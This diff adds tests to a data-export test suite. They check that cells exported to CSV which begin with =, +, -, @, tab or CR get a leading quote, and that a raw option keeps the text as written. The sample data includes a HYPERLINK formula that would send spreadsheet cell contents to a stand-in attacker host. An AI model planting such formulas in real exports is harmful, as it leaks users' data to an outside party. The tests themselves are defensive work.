@@ -318,6 +318,48 @@ describeEachDatabase("export", (database) => {
       expect(await ids(`q=${run}-nothing`)).toEqual([]);
     });
   });
+
+  describe("CSV formula injection", () => {
+    const marker = uniqueTaskId("inj");
+    // What a spreadsheet would run as a formula (OWASP's list of first characters).
+    const hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+2", "-1+2", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"];
+    const hostileId = (i: number) => `${marker}-${i}`;
+    const dashId = `-${marker}-dash`;
+
+    beforeAll(async () => {
+      for (const [i, message] of hostile.entries())
+        expect((await server.callback(coverFailure(hostileId(i), -1, message))).status).toBe(200);
+      expect((await server.callback(coverFailure(dashId, 501, "a = b, not a formula"))).status).toBe(200);
+    });
+
+    const byId = (text: string) => new Map((parse(text, { columns: true }) as Record<string, string>[]).map((r) => [r.taskId!, r]));
+
+    /** The rows the CSV alone and the export's tasks.csv hold, which must agree. */
+    async function both(query: string): Promise<Map<string, Record<string, string>>> {
+      const res = await fetch(new URL(`/api/export/tasks.csv?q=${marker}${query}`, server.url));
+      expect(res.status).toBe(200);
+      const alone = await res.text();
+      const { dir } = await unzipped(server, `/api/export?q=${marker}${query}`);
+      expect(fs.readFileSync(path.join(dir, "tasks.csv"), "utf8")).toBe(alone);
+      return byId(alone);
+    }
+
+    it("neutralises a cell starting with =, +, -, @, tab or CR with a leading ' (numbers stay numbers)", async () => {
+      const rows = await both("");
+      for (const [i, message] of hostile.entries()) {
+        expect(rows.get(hostileId(i))).toMatchObject({ message: `'${message}`, code: "-1" });
+      }
+      expect(rows.get(`'${dashId}`)).toMatchObject({ message: "a = b, not a formula", code: "501" });
+      expect(rows.size).toBe(hostile.length + 1);
+    });
+
+    it("?raw=1 keeps the exact text, for round trips", async () => {
+      const rows = await both("&raw=1");
+      for (const [i, message] of hostile.entries()) expect(rows.get(hostileId(i))!.message).toBe(message);
+      expect(rows.get(dashId)!.message).toBe("a = b, not a formula");
+      expect((await fetch(new URL(`/api/export/tasks.csv?raw=yes`, server.url))).status).toBe(400);
+    });
+  });
 });
 
 describe("export from S3 storage", () => {
